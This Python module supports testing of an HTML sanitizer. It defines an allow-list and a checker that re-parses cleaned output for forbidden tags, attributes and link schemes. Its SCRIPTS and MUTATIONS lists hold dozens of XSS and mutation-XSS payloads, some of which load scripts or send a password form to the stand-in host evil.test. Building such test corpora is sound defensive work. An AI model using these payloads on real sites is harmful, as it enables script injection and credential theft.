"""Hostile HTML, and what to look for in what is left of it. Collected from the precedents of the security cases."""

from selectolax.lexbor import LexborHTMLParser, LexborNode

ALLOWED = {
    *("p", "br", "a", "span", "strong", "b", "em", "i", "u", "del", "s", "sub", "sup", "code", "pre", "blockquote"),
    *("ul", "ol", "li", "h2", "h3", "h4", "h5", "h6", "hr", "table", "thead", "tbody", "tr", "th", "td"),
}
ATTRIBUTES = {"a": {"href", "class", "rel"}, "span": {"class"}, "p": {"class"}, "ol": {"start"}}
CLASSES = {"mention", "hashtag", "h-card", "u-url", "ellipsis", "invisible", "quote-inline"}

SCRIPTS = [
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.test/x.js></SCRIPT>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<script/x>alert(1)</script >",
    "<img src=x onerror=alert(1)>",
    "<img src=x onerror=alert(1) alt=':ok:'>",
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<body onload=alert(1)>",
    "<p onclick='alert(1)' style='position:fixed'>x</p>",
    '<a href="javascript:alert(1)">x</a>',
    '<a href="JaVaScRiPt:alert(1)">x</a>',
    '<a href="java&#10;script:alert(1)">x</a>',
    '<a href="&#106;&#97;vascript&colon;alert(1)">x</a>',
    '<a href=" &#14; javascript:alert(1)">x</a>',
    '<a href="data:text/html,<script>alert(1)</script>">x</a>',
    '<a href="vbscript:x">x</a>',
    '<a href="//evil.test">x</a>',
    '<a href="https://a.test" onmouseover="alert(1)">x</a>',
    '<a href="https://a.test/&quot; onmouseover=&quot;alert(1)">x</a>',
    "<a href='https://a.test/\" onmouseover=\"alert(1)'>x</a>",
    '<iframe src="https://evil.test"></iframe>',
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<object data='https://evil.test'></object><embed src='https://evil.test'>",
    "<form action='https://evil.test'><input name=password><button>go</button></form>",
    "<base href='https://evil.test/'><meta http-equiv=refresh content='0;url=https://evil.test'>",
    "<link rel=stylesheet href='https://evil.test/x.css'><style>*{display:none}</style>",
    "<div style='background:url(javascript:alert(1))'>x</div>",
    "<details open ontoggle=alert(1)>x</details>",
    "<video><source onerror=alert(1)></video>",
    "<!--><img src=x onerror=alert(1)>-->",
    "<!-- --!><img src=x onerror=alert(1)> -->",
    "<![CDATA[<img src=x onerror=alert(1)>]]>",
    "<?xml version='1.0'?><p>x",
    "<plaintext><img src=x onerror=alert(1)>",
    "<xmp><img src=x onerror=alert(1)></xmp>",
    "<title><img src=x onerror=alert(1)></title>",
    "<textarea></textarea><img src=x onerror=alert(1)>",
    '<p><img src="x\x00" onerror=alert(1)>\x00<scr\x00ipt>alert(1)</scr\x00ipt>',
    "\ud800<p>\udfff</p>",
    "<p title='</p><script>alert(1)</script>'>x</p>",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&#" + "9" * 5000 + ";",
    "&#x" + "f" * 5000 + ";",
]

MUTATIONS = [
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    "<noscript><style></noscript><img src=x onerror=alert(1)>",
    "<svg></p><style><a id='</style><img src=1 onerror=alert(1)>'>",
    "<math></p><style><!--</style><img src/onerror=alert(1)>--></style>",
    "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=1 onerror=alert(1)&gt;'>",
    "<math><annotation encoding='text/html'><p>x</p></annotation></math>",
    "<math><semantics><mi>x</mi><annotation>x</annotation></semantics></math>",
    "<math><annotation-xml encoding='text/html'><style><img src=x onerror=alert(1)></style></annotation-xml></math>",
    "<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
    "<svg><foreignObject><p>x</foreignObject></svg>",
    "<svg><desc><noscript></desc><s id='</noscript><img src=x onerror=alert(1)>'>",
    "<table><a href='https://a.test'>x<tr><td>y</table>",
    "<table><tr><td><table><tr><td>x</table></table>",
    "<p>a<table><p>b</table>c",
    "<b><p>x</b>y</p>",
    "<a href='https://a.test'>x<a href='https://b.test'>y</a></a>",
    "<ul><li><p>x<ul><li>y</ul>z</ul>",
    "<pre>\n\n\nx</pre>",
    "<pre><p>x</p>\n<div>y</div></pre>",
    "<h2>x<h3>y</h2>z",
    "<li>x<li>y",
    "<td>x</td>",
    "<select><option><style></option></select><img src=x onerror=alert(1)></style>",
    "<template><p>x</template>y",
    "<i x=1><p><i x=2><p><i x=3><p>text",
    "<blockquote>" * 600 + "x",
    "<ul><li>" * 600 + "x",
    "<b><i><u><s>" * 200 + "x<p>y<p>z",
    "<span class=invisible>hidden</span><p class='modal quote-inline' id=x name=y>z</p>",
    "a <br> b<br>\n c <hr> d",
    "<ol start=3><li>x</ol><ol start='x'><li>y</ol><ol start=-1><li>z</ol>",
    "<a href='https://a.test'><p>x</p><h2>y</h2></a>",
    "<a href='https://a.test'><pre>\nx\n</pre>y",
    "x<div>y<div>z</div></div>",
]

HOSTILE = SCRIPTS + MUTATIONS


def faults(html: str) -> list[str]:
    """What must not be in cleaned HTML and is, as another parser reads it."""
    body = LexborHTMLParser(f"<!doctype html><body>{html}").body
    assert body is not None
    return [fault for node in body.traverse() for fault in _faults(node)]


def _faults(node: LexborNode) -> list[str]:
    if node.tag == "body":
        return []
    if node.tag not in ALLOWED:
        return [f"<{node.tag}>"]
    found: list[str] = []
    for name, value in node.attributes.items():
        said = value or ""
        if name not in ATTRIBUTES.get(str(node.tag), ()):
            found.append(f"{node.tag} {name}={said}")
        elif name == "class" and set(said.split()) - CLASSES:
            found.append(f"class {said}")
        elif name == "href" and not said.startswith(("https://", "http://")):
            found.append(f"href {said}")
    if node.tag == "a" and not {"nofollow", "noopener", "noreferrer"} <= set(
        (node.attributes.get("rel") or "").split()
    ):
        found.append("link without rel")
    return found


def tree(html: str) -> str:
    """The tree that a browser makes of HTML, written down."""
    body = LexborHTMLParser(f"<!doctype html><body>{html}").body
    assert body is not None
    return body.html or ""
